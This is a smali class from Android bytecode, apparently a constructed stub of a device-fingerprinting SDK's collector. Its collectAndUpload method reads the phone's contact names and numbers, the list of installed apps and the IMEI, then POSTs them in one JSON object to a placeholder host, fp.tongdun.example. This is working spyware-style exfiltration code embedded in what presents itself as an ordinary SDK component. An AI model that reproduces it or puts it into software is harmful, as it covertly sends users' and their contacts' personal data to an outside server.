.class public final Lcn/tongdun/android/core/DeviceCollector;
.super Ljava/lang/Object;
.source "DeviceCollector.java"

# Internal collector of the Tongdun SDK stub. collectAndUpload() reads the
# phone contacts (ContactsContract Phone.CONTENT_URI), the installed-package
# list and the IMEI into one JSON object and POSTs it, in the same method,
# to https://fp.tongdun.example/collect.


# instance fields
.field private blackBox:Ljava/lang/String;

.field private final context:Landroid/content/Context;


# direct methods
.method public constructor <init>(Landroid/content/Context;)V
    .registers 2

    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lcn/tongdun/android/core/DeviceCollector;->context:Landroid/content/Context;

    return-void
.end method


# virtual methods
.method public collectAndUpload()I
    .registers 11
    # locals v0..v9 ; p0 = this

    :try_start_0
    iget-object v0, p0, Lcn/tongdun/android/core/DeviceCollector;->context:Landroid/content/Context;
    new-instance v9, Lorg/json/JSONObject;
    invoke-direct {v9}, Lorg/json/JSONObject;-><init>()V

    # 1. contacts
    invoke-virtual {v0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v1
    sget-object v2, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v3, 0x2
    new-array v3, v3, [Ljava/lang/String;
    const/4 v4, 0x0
    const-string v5, "display_name"
    aput-object v5, v3, v4
    const/4 v4, 0x1
    const-string v5, "data1"
    aput-object v5, v3, v4
    const/4 v4, 0x0
    const/4 v5, 0x0
    const/4 v6, 0x0
    invoke-virtual/range {v1 .. v6}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v1

    new-instance v2, Lorg/json/JSONArray;
    invoke-direct {v2}, Lorg/json/JSONArray;-><init>()V
    if-eqz v1, :contacts_done

    :next_contact
    invoke-interface {v1}, Landroid/database/Cursor;->moveToNext()Z
    move-result v3
    if-eqz v3, :close_cursor
    const/4 v3, 0x0
    invoke-interface {v1, v3}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v3
    invoke-virtual {v2, v3}, Lorg/json/JSONArray;->put(Ljava/lang/Object;)Lorg/json/JSONArray;
    const/4 v3, 0x1
    invoke-interface {v1, v3}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v3
    invoke-virtual {v2, v3}, Lorg/json/JSONArray;->put(Ljava/lang/Object;)Lorg/json/JSONArray;
    goto :next_contact

    :close_cursor
    invoke-interface {v1}, Landroid/database/Cursor;->close()V

    :contacts_done
    const-string v3, "contacts"
    invoke-virtual {v9, v3, v2}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    # 2. installed packages
    invoke-virtual {v0}, Landroid/content/Context;->getPackageManager()Landroid/content/pm/PackageManager;
    move-result-object v1
    const/4 v2, 0x0
    invoke-virtual {v1, v2}, Landroid/content/pm/PackageManager;->getInstalledPackages(I)Ljava/util/List;
    move-result-object v1
    new-instance v2, Lorg/json/JSONArray;
    invoke-direct {v2}, Lorg/json/JSONArray;-><init>()V
    invoke-interface {v1}, Ljava/util/List;->size()I
    move-result v3
    const/4 v4, 0x0

    :next_package
    if-ge v4, v3, :packages_done
    invoke-interface {v1, v4}, Ljava/util/List;->get(I)Ljava/lang/Object;
    move-result-object v5
    check-cast v5, Landroid/content/pm/PackageInfo;
    iget-object v5, v5, Landroid/content/pm/PackageInfo;->packageName:Ljava/lang/String;
    invoke-virtual {v2, v5}, Lorg/json/JSONArray;->put(Ljava/lang/Object;)Lorg/json/JSONArray;
    add-int/lit8 v4, v4, 0x1
    goto :next_package

    :packages_done
    const-string v3, "apps"
    invoke-virtual {v9, v3, v2}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    # 3. device id (IMEI)
    const-string v1, "phone"
    invoke-virtual {v0, v1}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v1
    check-cast v1, Landroid/telephony/TelephonyManager;
    invoke-virtual {v1}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v1
    const-string v2, "imei"
    invoke-virtual {v9, v2, v1}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
    iput-object v1, p0, Lcn/tongdun/android/core/DeviceCollector;->blackBox:Ljava/lang/String;

    # 4. upload, same method
    new-instance v1, Ljava/net/URL;
    const-string v2, "https://fp.tongdun.example/collect"
    invoke-direct {v1, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v1
    check-cast v1, Ljava/net/HttpURLConnection;
    const-string v2, "POST"
    invoke-virtual {v1, v2}, Ljava/net/HttpURLConnection;->setRequestMethod(Ljava/lang/String;)V
    const/4 v2, 0x1
    invoke-virtual {v1, v2}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
    invoke-virtual {v1}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v2
    invoke-virtual {v9}, Lorg/json/JSONObject;->toString()Ljava/lang/String;
    move-result-object v3
    const-string v4, "UTF-8"
    invoke-virtual {v3, v4}, Ljava/lang/String;->getBytes(Ljava/lang/String;)[B
    move-result-object v3
    invoke-virtual {v2, v3}, Ljava/io/OutputStream;->write([B)V
    invoke-virtual {v2}, Ljava/io/OutputStream;->close()V
    invoke-virtual {v1}, Ljava/net/HttpURLConnection;->getResponseCode()I
    move-result v3
    invoke-virtual {v1}, Ljava/net/HttpURLConnection;->disconnect()V
    :try_end_0
    .catch Ljava/lang/Exception; {:try_start_0 .. :try_end_0} :catch_0

    return v3

    :catch_0
    move-exception v0
    const/4 v0, -0x1
    return v0
.end method

.method public getBlackBox()Ljava/lang/String;
    .registers 2
    # local v0 ; p0 = this

    iget-object v0, p0, Lcn/tongdun/android/core/DeviceCollector;->blackBox:Ljava/lang/String;
    if-nez v0, :have
    const-string v0, ""

    :have
    return-object v0
.end method
